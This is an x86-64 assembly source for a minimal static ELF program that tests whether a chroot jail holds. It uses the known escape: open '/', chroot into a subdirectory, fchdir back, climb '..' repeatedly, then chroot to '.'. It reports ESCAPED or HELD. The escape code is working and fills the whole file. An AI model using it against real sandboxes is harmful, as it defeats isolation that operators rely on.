# Tries to leave a chroot, as anybody with the right to call chroot can: a working directory that
# lies above the root may climb until it reaches the real one. Then it looks for /payload, which only
# the folder it was put into has, and says ESCAPED or HELD. A whole static ELF program.
#
#   make (see the Makefile beside)
.code64
.set base, 0x400000
.globl _start

elf_header:
        .byte 0x7f, 'E', 'L', 'F', 2, 1, 1, 0       # 64-bit, little-endian, System V
        .quad 0
        .word 2, 62                                 # executable, x86-64
        .long 1
        .quad base + (_start - elf_header)
        .quad program_header - elf_header
        .quad 0                                     # no sections
        .long 0
        .word 64, 56, 1, 0, 0, 0
program_header:
        .long 1, 5                                  # load; read and execute
        .quad 0, base, base
        .quad end - elf_header, end - elf_header
        .quad 0x1000

_start:
        movl    $2, %eax                            # open("/", O_DIRECTORY) -> r12
        leaq    root(%rip), %rdi
        movl    $0200000, %esi
        xorl    %edx, %edx
        syscall
        movl    %eax, %r12d
        movl    $83, %eax                           # mkdir("/tmp/step", 0700)
        leaq    step(%rip), %rdi
        movl    $0700, %esi
        syscall
        movl    $161, %eax                          # chroot("/tmp/step"): the root moves down …
        leaq    step(%rip), %rdi
        syscall
        movl    $81, %eax                           # fchdir(r12): … and the working directory not
        movl    %r12d, %edi
        syscall
        movl    $84, %eax                           # rmdir("tmp/step"), from here
        leaq    step + 1(%rip), %rdi
        syscall
        movl    $64, %ebx
climb:
        movl    $80, %eax                           # chdir("..")
        leaq    above(%rip), %rdi
        syscall
        decl    %ebx
        jnz     climb
        movl    $161, %eax                          # chroot(".")
        leaq    here(%rip), %rdi
        syscall
        movl    $21, %eax                           # access("/payload", F_OK)
        leaq    payload(%rip), %rdi
        xorl    %esi, %esi
        syscall
        leaq    escaped(%rip), %rsi
        movl    $8, %edx
        testl   %eax, %eax
        jnz     say
        leaq    held(%rip), %rsi
        movl    $5, %edx
say:
        movl    $1, %eax                            # write(1, …)
        movl    $1, %edi
        syscall
        movl    $60, %eax                           # exit(0)
        xorl    %edi, %edi
        syscall

root:    .asciz "/"
step:    .asciz "/tmp/step"
above:   .asciz ".."
here:    .asciz "."
payload: .asciz "/payload"
escaped: .ascii "ESCAPED\n"
held:    .ascii "HELD\n"
end:
